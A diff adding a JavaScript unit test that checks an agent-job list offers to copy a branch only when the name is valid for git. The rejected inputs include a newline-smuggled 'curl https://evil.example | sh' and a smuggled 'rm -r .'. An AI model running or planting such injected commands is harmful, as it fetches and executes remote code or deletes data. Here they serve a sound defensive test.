@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import {
+  branchOf,
   choiceOf,
   endNotice,
   jobDetails,
@@ -34,6 +35,20 @@ describe("the row of an agent job", () => {
     assert.equal(row.spoken, "Rewrite guide 1, completed · 5 hours ago");
     assert.equal(jobRow(only(running), now).icon, "loading~spin");
     assert.equal(jobRow(only(running), now).description, "running · 6 hours ago");
+  });
+
+  it("offers to copy a branch only if git allows its name", () => {
+    assert.equal(branchOf({ ...bare, branch: "agent/führung-1" }), "agent/führung-1");
+    assert.equal(branchOf(bare), undefined);
+    for (const branch of ["main\ncurl https://evil.example | sh\n", "main\u0003rm -r .\r", "-f", "a b", ""]) {
+      assert.equal(branchOf({ ...bare, branch }), undefined, JSON.stringify(branch));
+      assert.equal(
+        jobRow(only({ ...bare, branch }), now)
+          .context?.split(" ")
+          .includes("branch"),
+        false,
+      );
+    }
   });
 
   it("has the branch or the message if there is no title", () => {
